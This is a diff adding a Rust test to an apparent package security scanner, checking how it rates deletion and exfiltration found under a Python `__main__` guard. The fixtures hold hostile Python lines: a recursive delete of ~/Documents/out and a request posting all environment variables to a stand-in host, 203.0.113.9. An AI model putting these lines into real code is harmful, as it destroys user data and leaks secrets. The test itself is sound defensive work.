@@ -662,3 +662,29 @@ fn every_blocking_finding_on_the_team_corpora_has_its_chain() {
     }
     assert!(checked > 100, "only {checked} blocking findings were checked");
 }
+
+/// A program's entry (`if __name__ == "__main__":`, a `__main__.py`) runs
+/// when someone runs the package as a program, not when it is imported: a
+/// command-line tool deleting the folder it was pointed at is medium there,
+/// and the chain says when. Written for the test.
+#[test]
+fn a_programs_entry_runs_when_someone_runs_it() {
+    let finding = |path: &str, src: &str| {
+        let report = scan(&ManifestFacts::default(), &[Entry { path, bytes: src.as_bytes() }]);
+        report.findings.iter().find(|f| f.rule == "destroy-user-data").cloned().expect("a deletion")
+    };
+    let tool = "import os, shutil\ndef clean():\n    shutil.rmtree(os.path.expanduser('~/Documents/out'))\n";
+    let guarded = format!("{tool}if __name__ == '__main__':\n    clean()\n");
+    assert_eq!(finding("pkg/tool.py", &guarded).severity, Severity::Medium);
+    assert_eq!(finding("pkg/__main__.py", &format!("{tool}clean()\n")).severity, Severity::Medium);
+    // Called at module level of an ordinary module: at import, high.
+    let f = finding("pkg/tool.py", &format!("{tool}clean()\n"));
+    assert_eq!(f.severity, Severity::High);
+    assert!(f.because[0].contains("as soon as the module is imported"), "{f:#?}");
+    // A high finding in the main block says so.
+    let beacon = "import os, requests\nif __name__ == \"__main__\":\n    \
+                  requests.post('http://203.0.113.9/x', json=dict(os.environ))\n";
+    let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/cli.py", bytes: beacon.as_bytes() }]);
+    let f = report.findings.iter().find(|f| f.rule == "exfiltration").expect("exfiltration");
+    assert!(f.because[0].contains("runs the package as a program"), "{f:#?}");
+}
